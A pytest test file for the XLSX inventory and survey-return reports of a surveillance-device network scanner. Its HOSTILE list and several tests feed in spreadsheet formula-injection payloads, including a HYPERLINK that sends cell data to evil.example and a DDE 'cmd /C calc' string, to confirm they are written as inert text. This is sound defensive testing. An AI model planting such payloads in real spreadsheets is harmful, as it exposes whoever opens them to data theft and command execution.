"""XLSX workbooks (issue 9): the inventory report and the survey return open in openpyxl, hold the same numbers as
the inventory and the survey dict, mark what overrides changed, and never turn a device string into a formula."""

from __future__ import annotations

import io
import re
import zipfile
from collections import Counter
from typing import Any

import openpyxl
import pytest

from scanner.inventory.build import HostFacts, build, site_info
from scanner.inventory.records import Device, Evidence, Inventory, ScanError, ScanInfo, SiteInfo, SiteRange
from scanner.match.engine import get_engine
from scanner.match.load import CATEGORIES, SURVEILLANCE_CATEGORIES, load_database
from scanner.models import Channel
from scanner.models import Observation as O
from scanner.report import xlsx
from tests.report.xlsx_sample import survey as sample_survey

SURVEY = ("external", "internal", "anpr", "bodyworn", "drones")
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
           "\tTAB", "\rCR", "=1+1", "#REF!", "#N/A"]
SCAN = ScanInfo(started="2026-12-07T01:00:00+00:00", finished="2026-12-07T01:00:05+00:00",
                targets=("198.18.0.0/23",), excluded=("198.18.0.1",), modules=("arp", "onvif", "snmp"),
                privileged=True, tool_version="0.1.0", fingerprints_version="x",
                stats={"hosts": 9, "probes": {"http": 4, "onvif": 3}, "elapsed_s": 1.5},
                errors=(ScanError("http", "198.18.0.77", "timed out"), ScanError("snmp", None, "=bad community")))


def engine_inventory(name: str = "HQ", base: str = "198.18") -> Inventory:
    """A scan as the engine identifies it: a Dahua NVR and a Hikvision ANPR camera inside, an anonymous Hikvision
    device outside, an Axon body camera, an LTS box made by Hikvision, an untagged Dahua camera, unknown hosts."""
    def ip(n: int, net: int = 0) -> str:
        return f"{base}.{net}.{n}"
    obs = [O("mac", "3c:ef:8c:08:4e:1e", ip=ip(20), source="arp"),
           O("snmp.sysdescr", "DH-NVR4108HS-8P-4KS2", ip=ip(20), source="snmp"),
           O("hostname", "nvr-1", ip=ip(20), source="mdns"),
           O("onvif.manufacturer", "HIKVISION", ip=ip(30), source="onvif"),
           O("onvif.model", "DS-TCG406-E", ip=ip(30), source="onvif"),
           O("onvif.manufacturer", "Axon", ip=ip(31), source="onvif"),
           O("onvif.model", "Axon Body 3", ip=ip(31), source="onvif"),
           O("mac", "44:19:b6:00:00:01", ip=ip(41), source="arp"),
           O("onvif.manufacturer", "LTS", ip=ip(41), source="onvif"),
           O("onvif.model", "C800", ip=ip(40), source="onvif"),
           O("http.server", "App-webs/", ip=ip(140), port=80, source="http"),
           O("onvif.manufacturer", "Dahua", ip=ip(43, 1), source="onvif"),
           O("onvif.model", "IPC-HFW2431S", ip=ip(43, 1), source="onvif")]
    hosts = {ip(20): HostFacts("3c:ef:8c:08:4e:1e", frozenset({80, 37777}),
                               (Channel("R1", "10.9.0.2", "HIKVISION", "DS-2CD2042WD-I"),)),
             ip(99): HostFacts("00:11:22:33:44:55")}
    site = site_info(name, "Test Police", [(f"{base}.0.0/24", "internal", None), (f"{base}.0.128/25", "external", 7),
                                           (f"{base}.1.0/24", None, None)])
    return build(obs, get_engine(), SCAN, site, hosts=hosts)


def device(ip: str = "198.18.0.10", **kw: object) -> Device:
    """A surveillance device with the given fields (the rest plain)."""
    base: dict[str, object] = dict(ip=ip, mac=None, hostnames=(), open_ports=(80,), vendor="hikvision",
                                   brand="hikvision", model="DS-2CD2042WD-I", firmware="V5.4.5", serial=None,
                                   category="camera", confidence=0.9, concerns=(), advisories=(), evidence=(),
                                   discovered_by=("http",), survey="external")
    base.update(kw)
    return Device(**base)  # type: ignore[arg-type]


def hostile_inventory() -> Inventory:
    """One device per hostile string, in every device-controlled text field and its evidence."""
    devs = [device(f"198.18.0.{10 + i}", model=s, firmware=s, serial=s, hostnames=(s,), vendor=s, brand=s, mac=s,
                   evidence=(Evidence("http.server", "http.server", s, s, s, 0.5, s, (), s),),
                   channels=(Channel(s, s, s, s, s),))
            for i, s in enumerate(HOSTILE)]
    info = ScanInfo("2026-12-07T00:00:00+00:00", "2026-12-07T00:01:00+00:00", tuple(HOSTILE), tuple(HOSTILE),
                    ("http",), False, "=test", "@test", {"=k": "=v"}, (ScanError("=m", "@ip", "-err"),))
    return Inventory(SiteInfo("=site", "+org", (SiteRange("198.18.0.0/24", "external"),)), info, tuple(devs))


def load(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def assert_inert(data: bytes) -> None:
    """No formula and no error value anywhere: in openpyxl's reading and in the raw sheet XML."""
    wb = load(data)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type not in ("f", "e"), (ws.title, c.coordinate, c.value)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert len(sheets) == len(wb.worksheets)
        for n in sheets:
            xml = z.read(n)
            assert not re.search(rb"<(\w+:)?f[ >/]", xml), n
            assert b't="e"' not in xml and b't="str"' not in xml, n


def header(ws: Any, row: int = 1) -> list[Any]:
    return [c.value for c in ws[row] if c.value is not None]


def records(ws: Any) -> list[dict[str, Any]]:
    """A one-table sheet as dicts by header."""
    names = header(ws)
    return [dict(zip(names, r, strict=False)) for r in ws.iter_rows(min_row=2, max_col=len(names), values_only=True)]


def cross_table(ws: Any, title: str) -> tuple[dict[str, dict[str, Any]], dict[str, Any]]:
    """The maker x column table under title: {row label: {column: value}} and the Total row."""
    rows = list(ws.iter_rows(values_only=True))
    start = next(i for i, r in enumerate(rows) if r[0] == title)
    names = [x for x in rows[start + 1] if x is not None]
    out: dict[str, dict[str, Any]] = {}
    for r in rows[start + 2:]:
        cells = dict(zip(names, r, strict=False))
        if r[0] == "Total":
            return out, cells
        out[r[0]] = cells
    raise AssertionError(f"no Total row under {title}")


# --- the inventory report --------------------------------------------------------------------------

def names() -> tuple[dict[str, str], dict[str, str]]:
    db = load_database()
    makers = {s: m.name for s, m in db.makers.items()} | {s: b.name for s, b in db.brands.items()}
    return makers, {c.id: c.name for c in db.concerns}


def test_inventory_workbook_has_every_sheet_and_one_row_per_device() -> None:
    inv = engine_inventory()
    makers, concerns = names()
    wb = load(xlsx.render_inventory(inv, maker_names=makers, concern_names=concerns))
    assert wb.sheetnames == ["Devices", "Summary", "Evidence", "Errors", "Scan"]
    rows = records(wb["Devices"])
    assert len(rows) == len(inv.devices)
    assert any(d.brand and d.brand != d.vendor for d in inv.devices)    # the sample has a brand of another maker
    for d, row in zip(inv.devices, rows, strict=True):
        assert row["ip"] == d.ip and row["mac"] == d.mac and row["category"] == d.category
        assert row["maker"] == (makers[d.vendor] if d.vendor else None)
        assert row["brand"] == (makers[d.brand] if d.brand else None)
        assert (row["model"], row["firmware"], row["serial"]) == (d.model, d.firmware, d.serial)
        assert row["confidence"] == pytest.approx(d.confidence) and isinstance(row["confidence"], int | float)
        assert row["concerns"] == ("; ".join(concerns[c] for c in d.concerns) or None)
        assert row["open ports"] == (", ".join(map(str, d.open_ports)) or None)
        assert row["hostnames"] == ("; ".join(d.hostnames) or None)
    nvr = rows[[d.ip for d in inv.devices].index("198.18.0.20")]
    assert nvr["channels"] == "10.9.0.2 HIKVISION DS-2CD2042WD-I" and nvr["maker"] == "Dahua"
    assert nvr["survey category"] == "internal"


def test_devices_header_is_frozen_and_filtered_over_the_whole_table() -> None:
    inv = engine_inventory()
    ws = load(xlsx.render_inventory(inv))["Devices"]
    assert ws.freeze_panes == "A2"
    assert header(ws) == list(xlsx.DEVICE_COLUMNS)
    assert ws.auto_filter.ref == f"A1:R{len(inv.devices) + 1}"
    assert all(ws.column_dimensions[c].width >= 8 for c in "ABCDEFGHIJKLMNOPQR")


def test_summary_counts_equal_the_inventory() -> None:
    inv = engine_inventory()
    makers, _ = names()
    ws = load(xlsx.render_inventory(inv, maker_names=makers))["Summary"]
    by_cat: dict[str, Counter[str]] = {}
    by_survey: dict[str, Counter[str]] = {}
    kind_survey = {"anpr": "anpr", "bodyworn": "bodyworn", "drone": "drones"}
    for d in inv.devices:
        if d.category in SURVEILLANCE_CATEGORIES:
            who = makers[d.vendor] if d.vendor else "(maker not named)"
            by_cat.setdefault(who, Counter())[d.category] += 1
            by_survey.setdefault(who, Counter())[kind_survey.get(d.category, d.survey or "untagged")] += 1
    assert sum(c["untagged"] for c in by_survey.values()) >= 1 and "ANPR" not in by_survey   # sample covers both
    cats = [c for c in CATEGORIES if c in SURVEILLANCE_CATEGORIES]
    table, total = cross_table(ws, "Surveillance devices by maker and device category")
    assert {m: {c: n for c, n in row.items() if c in cats and n} for m, row in table.items()} == \
           {m: dict(c) for m, c in by_cat.items()}
    assert all(isinstance(row[c], int) for row in table.values() for c in cats)
    assert {m: row["total"] for m, row in table.items()} == {m: sum(c.values()) for m, c in by_cat.items()}
    assert total["total"] == sum(d.category in SURVEILLANCE_CATEGORIES for d in inv.devices)
    assert total["nvr"] == 1 and total["camera"] == sum(c["camera"] for c in by_cat.values())
    table, total = cross_table(ws, "Surveillance devices by maker and survey category")
    cols = [*SURVEY, "untagged"]
    assert {m: {c: n for c, n in row.items() if c in cols and n} for m, row in table.items()} == \
           {m: dict(c) for m, c in by_survey.items()}
    assert [total[c] for c in cols] == [sum(c[k] for c in by_survey.values()) for k in cols]
    other = {r[0]: r[1] for r in ws.iter_rows(values_only=True) if r[0] and str(r[0]).startswith(("known", "unid"))}
    assert list(other.values()) == [sum(d.category == "other" for d in inv.devices),
                                    sum(d.category == "unknown" for d in inv.devices)]


def test_evidence_errors_and_scan_sheets_hold_the_scan() -> None:
    inv = engine_inventory()
    wb = load(xlsx.render_inventory(inv))
    ev = records(wb["Evidence"])
    want = [(d.ip, e.rule_id, e.signal, e.value, e.confidence) for d in inv.devices for e in d.evidence]
    assert [(r["device ip"], r["rule"], r["signal"], r["value"], r["confidence"]) for r in ev] == \
           [(ip, rule, sig, val, pytest.approx(conf)) for ip, rule, sig, val, conf in want]
    assert [(r["module"], r["ip"], r["error"]) for r in records(wb["Errors"])] == \
           [(x.module, x.ip, x.error) for x in inv.scan.errors]
    ws = wb["Scan"]
    kv: dict[str, list[tuple[Any, ...]]] = {}
    for r in ws.iter_rows(min_row=2, values_only=True):
        kv.setdefault(r[0], []).append(r[1:])
    assert kv["site"] == [("HQ", None)] and kv["organisation"] == [("Test Police", None)]
    assert kv["range"] == [("198.18.0.0/24", "survey: internal"), ("198.18.0.128/25", "survey: external; VLAN 7"),
                           ("198.18.1.0/24", "survey: untagged")]
    assert kv["targets"][0][0] == "198.18.0.0/23" and kv["excluded"][0][0] == "198.18.0.1"
    assert kv["complete"][0][0] is True and kv["privileged"][0][0] is True
    assert kv["stats.hosts"][0][0] == 9 and kv["stats.probes.onvif"][0][0] == 3 and kv["stats.elapsed_s"][0][0] == 1.5
    assert kv["errors"][0][0] == 2


def test_device_strings_never_become_formulas_or_error_values() -> None:
    inv = hostile_inventory()
    data = xlsx.render_inventory(inv)
    assert_inert(data)
    wb = load(data)
    rows = records(wb["Devices"])
    for s, row in zip(HOSTILE, rows, strict=True):
        for col in ("mac", "maker", "brand", "model", "firmware", "serial", "hostnames"):
            assert row[col] == s, (col, row[col])     # the text is kept exactly, only made inert
    ws = wb["Devices"]
    for r in range(2, len(HOSTILE) + 2):
        cell = ws.cell(row=r, column=5)               # model
        assert cell.data_type == "s"
        # Excel's quote prefix: shown as typed and still text after the cell is edited
        assert cell.quotePrefix == str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [r["value"] for r in records(wb["Evidence"])] == HOSTILE
    assert records(wb["Errors"]) == [{"module": "=m", "ip": "@ip", "error": "-err"}]
    scan = {r[0]: r[1] for r in wb["Scan"].iter_rows(min_row=2, values_only=True)}
    assert scan["site"] == "=site" and scan["organisation"] == "+org" and scan["stats.=k"] == "=v"


def test_control_characters_and_overlong_text_do_not_crash_and_are_replaced() -> None:
    bad = "ab\x00c\x1bd\x07e\x7ff\ud800g\ufffeh"
    inv = Inventory(SiteInfo("HQ\x01"), SCAN, (device(model=bad, hostnames=(bad,), firmware="x" * 40000,
                                                      evidence=(Evidence("r", "http.server", bad, None, None, 0.1),)),))
    data = xlsx.render_inventory(inv)
    wb = load(data)
    row = records(wb["Devices"])[0]
    assert row["model"] == row["hostnames"] == "ab\ufffdc\ufffdd\ufffde\ufffdf\ufffdg\ufffdh"
    assert len(row["firmware"]) == xlsx.MAX_CELL_TEXT and row["firmware"].endswith("…")
    assert records(wb["Evidence"])[0]["value"] == row["model"]
    assert wb["Scan"]["B2"].value == "HQ\ufffd"
    assert "\t" in xlsx.cell_text("a\tb") and "\n" in xlsx.cell_text("a\nb")   # ordinary whitespace is kept


def test_same_inventory_same_bytes_stamped_with_the_scan_time() -> None:
    inv = engine_inventory()
    a, b = xlsx.render_inventory(inv), xlsx.render_inventory(inv)
    assert a == b
    props = load(a).properties
    assert props.created.isoformat() == props.modified.isoformat() == "2026-12-07T01:00:05"


def test_an_empty_inventory_still_makes_every_sheet() -> None:
    inv = Inventory(SiteInfo(), SCAN, ())
    wb = load(xlsx.render_inventory(inv))
    assert wb.sheetnames == ["Devices", "Summary", "Evidence", "Errors", "Scan"]
    assert records(wb["Devices"]) == []
    _, total = cross_table(wb["Summary"], "Surveillance devices by maker and device category")
    assert total["total"] == 0


# --- the survey return -----------------------------------------------------------------------------

def expected_numbers(doc: dict[str, Any]) -> dict[str, int]:
    """Every count the Return sheet must show, by its JSON key."""
    out: dict[str, int] = {}
    for cat in SURVEY:
        c, b = doc["categories"][cat], f"categories.{cat}"
        out[f"{b}.concern_total"] = sum(c["concern_vendors"].values())
        for f in ("by_vendor", "by_brand", "concern_vendors"):
            out.update({f"{b}.{f}.{k}": n for k, n in c[f].items()})
        out.update({f"{b}.{f}": c[f] for f in ("video", "unknown", "total")})
    out["untagged"] = doc["untagged"]
    out.update({f"untagged_by_vendor.{k}": n for k, n in doc["untagged_by_vendor"].items()})
    if "unknown_untagged" in doc:
        out["unknown_untagged"] = doc["unknown_untagged"]
    return out


def return_rows(ws: Any) -> dict[str, Any]:
    """The Return sheet's rows by their JSON key (column E): the row's cells."""
    head = next(r for r in range(1, 20) if ws.cell(row=r, column=1).value == "Question / item")
    assert [c.value for c in ws[head]][:5] == list(xlsx.RETURN_COLUMNS)
    out: dict[str, Any] = {}
    for row in ws.iter_rows(min_row=head + 1):
        key = row[4].value
        if key:
            out.setdefault(key, row)    # the category's own heading row carries its base key
    return out


def check_return(doc: dict[str, Any], data: bytes) -> Any:
    """The Return sheet holds exactly the dict's numbers and answers, and marks exactly what overrides changed."""
    assert_inert(data)
    wb = load(data)
    assert wb.sheetnames == ["Return", "By maker", "Sites", "Devices", "Overrides", "Provenance"]
    rows = return_rows(wb["Return"])
    numbers = {k: r[1] for k, r in rows.items() if isinstance(r[1].value, int) and r[1].value is not True}
    assert {k: c.value for k, c in numbers.items()} == expected_numbers(doc)
    assert all(c.data_type == "n" for c in numbers.values())
    makers = doc["makers"]
    marked_want: set[str] = set()
    for cat in SURVEY:
        c, b = doc["categories"][cat], f"categories.{cat}"
        assert rows[b][0].value == xlsx.SURVEY_LABELS[cat]
        assert rows[f"{b}.concern"][1].value == ("Yes" if c["concern_vendors"] else "No")
        assert rows[f"{b}.concern_makers"][1].value == (", ".join(makers[v] for v in c["concern_vendors"]) or "none")
        for v in c["by_vendor"]:
            assert rows[f"{b}.by_vendor.{v}"][0].value.strip() == makers[v]
        flagged = sorted({i for ids in c["concern_lists"].values() for i in ids})
        if flagged:
            lists = {x["id"]: x["name"] for x in doc["concern_lists"]}
            assert rows[f"{b}.concern"][2].value == "flagged by: " + "; ".join(lists[i] for i in flagged)
        marked_want |= {f"{b}.{k}" for k in c["overridden"]}
        if any(k.startswith("concern_vendors.") for k in c["overridden"]):
            marked_want |= {f"{b}.concern", f"{b}.concern_total"}
    if doc.get("untagged_overridden"):
        marked_want.add("untagged")
    marked = {k for k, r in rows.items() if r[1].comment is not None}
    assert marked == marked_want
    for k in marked:
        cell, note = rows[k][1], rows[k][3]
        assert cell.fill.fgColor.rgb.endswith(xlsx.OVERRIDE_FILL.fgColor.rgb[-6:])
        assert cell.comment.text.startswith("Changed by override: ") and note.value == cell.comment.text
    for k, r in rows.items():
        if k not in marked:
            assert r[3].value is None and not r[1].fill.fgColor.rgb.endswith("FFC000"), k
    return wb


def test_survey_return_holds_the_dicts_numbers_and_marks_overrides() -> None:
    doc = sample_survey()
    wb = check_return(doc, xlsx.render_survey(doc))
    rows = return_rows(wb["Return"])
    axis = rows["categories.external.by_vendor.axis"]
    assert axis[1].comment.text == "Changed by override: Axis per asset register (PC 123)"
    assert rows["categories.drones.total"][3].value == "Changed by override: two Mavic 3 in the store (Sgt Jones)"
    assert rows["categories.external.by_brand.annke"][2].value == "made by Hikvision"
    assert rows["categories.external.total"][1].value == 5 and rows["categories.anpr.concern"][1].value == "No"


def test_survey_breakdown_sheets_hold_the_dict() -> None:
    doc = sample_survey()
    wb = load(xlsx.render_survey(doc))
    cols = [xlsx.SURVEY_LABELS[c] for c in SURVEY]
    table, total = cross_table(wb["By maker"], "Surveillance devices by real maker and survey category")
    want: dict[str, dict[str, int]] = {}
    for cat in SURVEY:
        for v, n in doc["categories"][cat]["by_vendor"].items():
            want.setdefault(doc["makers"][v], {})[xlsx.SURVEY_LABELS[cat]] = n
    for v, n in doc["untagged_by_vendor"].items():
        want.setdefault(doc["makers"][v], {})["untagged"] = n
    assert {m: {c: n for c, n in r.items() if c in [*cols, "untagged"] and n} for m, r in table.items()} == want
    assert total["total"] == sum(doc["categories"][c]["total"] for c in SURVEY) + doc["untagged"]
    assert table["Axis Communications"]["External camera systems"] == 1
    by_maker = list(wb["By maker"].iter_rows())
    axis = next(r for r in by_maker if r[0].value == "Axis Communications")
    assert axis[2].comment is not None and axis[3].comment is None     # the override changed external only
    brands, _ = cross_table(wb["By maker"], "Devices by the brand on the box, where it differs from the real maker")
    assert brands["Annke"]["External camera systems"] == 1 and brands["Annke"]["made by"] == "Hikvision"

    sites = list(wb["Sites"].iter_rows(min_row=3, max_row=2 + len(doc["sites"]), values_only=True))
    for s, row in zip(doc["sites"], sites, strict=True):
        assert row[:3] == (s["name"], s["scan_id"], s["scanned"])
        assert list(row[3:8]) == [s["categories"][c]["total"] for c in SURVEY] and row[8] == s["untagged"]
        assert row[9] == sum(s["categories"][c]["total"] for c in SURVEY) + s["untagged"]
        assert row[10] == sum(sum(s["categories"][c]["concern_vendors"].values()) for c in SURVEY)

    devs = records(wb["Devices"])
    assert [(r["site"], r["ip"], r["kind"], r["origin"]) for r in devs] == \
           [(d["site"], d["ip"], d["kind"], d["origin"]) for d in doc["devices"]]
    assert devs[0]["model"] == "=cmd|' /C calc'!A0" and devs[4]["model"] == "@SUM(1)\ufffd\ufffd"
    assert devs[1]["override reason"] == "Axis per asset register" and devs[1]["override by"] == "PC 123"
    ov = records(wb["Overrides"])
    assert [(o["kind"], o["count"], o["reason"], o["by"]) for o in ov] == \
           [(o["kind"], o["count"], o["reason"], o["by"]) for o in doc["overrides"]]
    prov = [r for r in wb["Provenance"].iter_rows(values_only=True) if r[0]]
    assert ("fcc-covered-list", "FCC Covered List") in [r[:2] for r in prov]
    assert ("HQ", 7) in [r[:2] for r in prov] and ("sha256", "0" * 64) in [r[:2] for r in prov]


def test_survey_strings_never_become_formulas() -> None:
    doc = sample_survey()
    doc["organisation"] = "=HYPERLINK(\"http://evil.example\")"
    doc["overrides"][0]["reason"] = "@reason"
    data = xlsx.render_survey(doc)
    assert_inert(data)
    wb = load(data)
    assert wb["Return"]["B2"].value == doc["organisation"] and wb["Return"]["B2"].quotePrefix
    assert records(wb["Overrides"])[0]["reason"] == "@reason"


def test_a_count_that_is_not_an_integer_is_refused() -> None:
    doc = sample_survey()
    doc["categories"]["external"]["total"] = "5"
    with pytest.raises(ValueError, match="not an integer"):
        xlsx.render_survey(doc)


def test_same_survey_same_bytes() -> None:
    doc = sample_survey()
    assert xlsx.render_survey(doc) == xlsx.render_survey(doc)
    assert load(xlsx.render_survey(doc)).properties.created.isoformat() == "2026-12-07T04:00:00"


# --- against the real survey -----------------------------------------------------------------------

OVERRIDES = """
corrections:
  - device: {ip: 198.18.1.43}
    site: HQ
    set: {survey: external}
    reason: the camera watches the car park from the outside wall
    by: J. Smith
  - device: {mac: "44:19:B6:00:00:01"}
    site: Depot
    set: {kind: camera, brand: null}
    reason: =relabelled in the asset register
    by: "@A. Jones"
additions:
  - site: Depot
    kind: drone
    survey: drones
    maker: dji
    model: Matrice 300 RTK
    count: 3
    reason: kept in the equipment store, never networked
    by: A. Jones
"""


def real_survey(tmp_path: Any, overrides: bool = True) -> dict[str, Any]:
    """survey.build over two engine-identified sites, with an overrides file."""
    from scanner import survey

    db = load_database()
    ov = None
    if overrides:
        path = tmp_path / "overrides.yaml"
        path.write_text(OVERRIDES)
        ov = survey.load_overrides(path, db)
    sources = [survey.Source(engine_inventory("HQ"), "1", "store"), survey.Source(engine_inventory("Depot"), "2",
                                                                                 "store")]
    return survey.build(sources, db, overrides=ov, organisation="Test Police",
                        generated="2026-12-07T04:00:00+00:00")


def test_real_survey_return_holds_the_same_numbers_as_the_json(tmp_path: Any) -> None:
    doc = real_survey(tmp_path)
    assert any(c["overridden"] for c in doc["categories"].values())     # the sample exercises the marking
    assert any(c["by_brand"] for c in doc["categories"].values()) and doc["untagged"] >= 1
    wb = check_return(doc, xlsx.render_survey(doc))
    rows = return_rows(wb["Return"])
    ext = rows["categories.external.total"]
    assert ext[1].value == doc["categories"]["external"]["total"]
    # each comment names the override that changed the number, not every override in the file
    moved, relabelled = ("the camera watches the car park from the outside wall (J. Smith)",
                         "=relabelled in the asset register (@A. Jones)")
    assert ext[1].comment.text == rows["untagged"][1].comment.text == f"Changed by override: {moved}"
    assert rows["categories.internal.by_brand.lts"][1].comment.text == f"Changed by override: {relabelled}"
    assert rows["categories.internal.video"][3].value == f"Changed by override: {relabelled}"
    dji = rows["categories.drones.by_vendor.dji"]
    assert dji[1].value == 3 and "kept in the equipment store, never networked (A. Jones)" in dji[1].comment.text
    sites = list(wb["Sites"].iter_rows(min_row=3, max_row=2 + len(doc["sites"])))
    assert [r[0].value for r in sites] == [s["name"] for s in doc["sites"]] == ["HQ", "Depot"]
    for s, row in zip(doc["sites"], sites, strict=True):
        assert [c.value for c in row[3:8]] == [s["categories"][c]["total"] for c in SURVEY]
        assert [c.comment is not None for c in row[3:8]] == ["total" in s["categories"][c]["overridden"]
                                                              for c in SURVEY]
    devs = records(wb["Devices"])
    assert len(devs) == len(doc["devices"]) and sum(r["count"] for r in devs if r["counted"] == "yes") == \
        sum(doc["categories"][c]["total"] for c in SURVEY) + doc["untagged"]


def test_inventory_summary_by_survey_category_agrees_with_the_survey(tmp_path: Any) -> None:
    doc = real_survey(tmp_path, overrides=False)
    site = next(s for s in doc["sites"] if s["name"] == "HQ")
    makers, _ = names()
    ws = load(xlsx.render_inventory(engine_inventory("HQ"), maker_names=makers))["Summary"]
    table, total = cross_table(ws, "Surveillance devices by maker and survey category")
    label = {"unknown": "(maker not named)"}
    want: dict[str, dict[str, int]] = {}
    for cat in SURVEY:
        for v, n in site["categories"][cat]["by_vendor"].items():
            want.setdefault(label.get(v) or makers[v], {})[cat] = n
    for v, n in site["untagged_by_vendor"].items():
        want.setdefault(label.get(v) or makers[v], {})["untagged"] = n
    assert {m: {c: n for c, n in r.items() if c in [*SURVEY, "untagged"] and n} for m, r in table.items()} == want
    assert total["untagged"] == site["untagged"]
